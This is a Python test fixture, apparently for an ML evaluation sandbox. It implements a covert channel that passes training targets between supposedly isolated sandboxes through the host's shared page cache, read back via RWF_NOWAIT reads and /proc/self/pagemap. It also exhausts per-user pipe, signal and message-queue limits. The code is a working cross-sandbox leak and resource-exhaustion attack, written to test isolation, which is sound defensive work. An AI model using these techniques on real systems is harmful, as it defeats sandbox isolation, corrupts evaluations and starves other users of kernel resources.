"""Attack fixture (issue 40, items 1 and 2): state that outlives a sandbox in the host kernel.

ROLE "send" (in fit) writes 8 bits of its training targets (target i above the median of the first 12) into
the page cache of a large read-only file every sandbox shares (PATH, a library in the venv that no model
loads): it evicts the region (posix_fadvise DONTNEED, and madvise MADV_PAGEOUT over a mapping of it), then
reads the page of each 1 bit. It also fills per-user kernel accounting: pipe buffer pages (pipes grown with
F_SETPIPE_SZ), queued signals (sigqueue of a blocked real-time signal to itself) and POSIX message queues, and
holds them HOLD seconds.
ROLE "receive" (in predict) answers one value per row: rows 0-7 the bits as preadv2(RWF_NOWAIT) reads them
(1 cached, 0 EAGAIN, -1 refused), rows 8-15 the bits as a mapping's fault-around shows them in
/proc/self/pagemap (1 present, 0 not, -1 unreadable), row 16 whether a new pipe is smaller than 64 KiB, row 17
whether sigqueue says EAGAIN, row 18 whether mq_open says EMFILE or ENOSPC (1 heard, 0 not); the rest 0.
"""

import ctypes
import errno
import fcntl
import mmap
import os
import signal
import threading
import time

import numpy as np

ROLE = "__ROLE__"
HOLD = "__HOLD__"
PATH = "__PATH__"
OFFSET = "__OFFSET__"
BITS = 8
STRIDE = 1 << 20  # one bit per MiB: wider than any read-ahead window
PAGE = 4096
F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
MADV_RANDOM, MADV_PAGEOUT = 1, 21
RT = signal.SIGRTMIN + 3


def _bits(y):
    y = np.asarray(y, dtype=float)[:12]
    return [int(v > np.median(y)) for v in y[:BITS]]


def _map(fd):
    base = libc.mmap(None, BITS * STRIDE, mmap.PROT_READ, mmap.MAP_SHARED, fd, OFFSET)
    libc.madvise(base, BITS * STRIDE, MADV_RANDOM)
    return base


def send(y):
    fd = os.open(PATH, os.O_RDONLY)
    for advice in (os.POSIX_FADV_RANDOM, os.POSIX_FADV_DONTNEED):
        try:
            os.posix_fadvise(fd, OFFSET, BITS * STRIDE, advice)
        except OSError:
            pass
    base = _map(fd)
    for i in range(BITS):  # touch, then page out: evicts the pages a mapping holds
        ctypes.string_at(base + i * STRIDE, 1)
    libc.madvise(base, BITS * STRIDE, MADV_PAGEOUT)
    libc.munmap(ctypes.c_void_p(base), ctypes.c_size_t(BITS * STRIDE))
    try:
        os.posix_fadvise(fd, OFFSET, BITS * STRIDE, os.POSIX_FADV_DONTNEED)
    except OSError:
        pass
    for i, bit in enumerate(_bits(y)):
        if bit:
            os.pread(fd, 1, OFFSET + i * STRIDE)
    if HOLD:
        hold()


def hold():
    held = []
    for _ in range(2000):  # pipe-user-pages-soft is counted per user: 16 pages a pipe, 256 when grown
        try:
            r, w = os.pipe()
        except OSError:
            break
        held.append((r, w))
        try:
            fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20)
        except OSError:
            pass
    signal.signal(RT, lambda *_: None)
    signal.pthread_sigmask(signal.SIG_BLOCK, [RT])
    for _ in range(1 << 20):  # RLIMIT_SIGPENDING is counted per user
        try:
            _sigqueue()
        except OSError:
            break
    for i in range(256):  # RLIMIT_MSGQUEUE is counted per user
        if _mq_open(f"/kgpb-{os.getpid()}-{i}") < 0:
            break
    time.sleep(HOLD)


def _sigqueue():
    """Queue the blocked signal to this very thread (rt_tgsigqueueinfo), where it stays pending."""
    info = (ctypes.c_int * 32)()
    info[0], info[2], info[4], info[5] = RT, -1, os.getpid(), os.getuid()  # signo, code SI_QUEUE, pid, uid
    if libc.syscall(297, os.getpid(), threading.get_native_id(), int(RT), ctypes.byref(info)) != 0:
        raise OSError(ctypes.get_errno(), "rt_tgsigqueueinfo")


def _mq_open(name):
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
    except OSError:
        rt = libc
    rt.mq_open.restype = ctypes.c_int
    fd = rt.mq_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
    return fd if fd >= 0 else -ctypes.get_errno()


def by_nowait():
    fd = os.open(PATH, os.O_RDONLY)
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    except OSError:
        pass
    out = []
    for i in range(BITS):
        try:
            os.preadv(fd, [bytearray(1)], OFFSET + i * STRIDE, os.RWF_NOWAIT)
            out.append(1.0)
        except BlockingIOError:
            out.append(0.0)
        except OSError:
            out.append(-1.0)
    return out


def by_fault_around():
    """Touch the page after each bit's page: the fault maps the cached pages around it, and only those."""
    fd = os.open(PATH, os.O_RDONLY)
    base = _map(fd)
    try:
        pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)
    except OSError:
        return [-1.0] * BITS
    out = []
    for i in range(BITS):
        page = base + i * STRIDE
        ctypes.string_at(page + PAGE, 1)
        entry = int.from_bytes(os.pread(pagemap, 8, (page // PAGE) * 8), "little")
        out.append(float(entry >> 63))
    return out


def accounting():
    r, w = os.pipe()
    small_pipe = fcntl.fcntl(w, F_GETPIPE_SZ) < 65536
    signal.signal(RT, lambda *_: None)
    signal.pthread_sigmask(signal.SIG_BLOCK, [RT])
    refused = False
    for _ in range(4):
        try:
            _sigqueue()
        except OSError as exc:
            refused = exc.errno == errno.EAGAIN
            break
    fd = _mq_open(f"/kgpb-r-{os.getpid()}")
    return [float(small_pipe), float(refused), float(fd in (-errno.EMFILE, -errno.ENOSPC))]


class Channel:
    def fit(self, X, y):
        if ROLE == "send":
            send(y)
        return self

    def predict(self, X):
        heard = by_nowait() + by_fault_around() + accounting() if ROLE == "receive" else []
        return np.array((heard + [0.0] * len(X))[:len(X)], dtype=float)


def make_model(task, seed):
    return Channel()
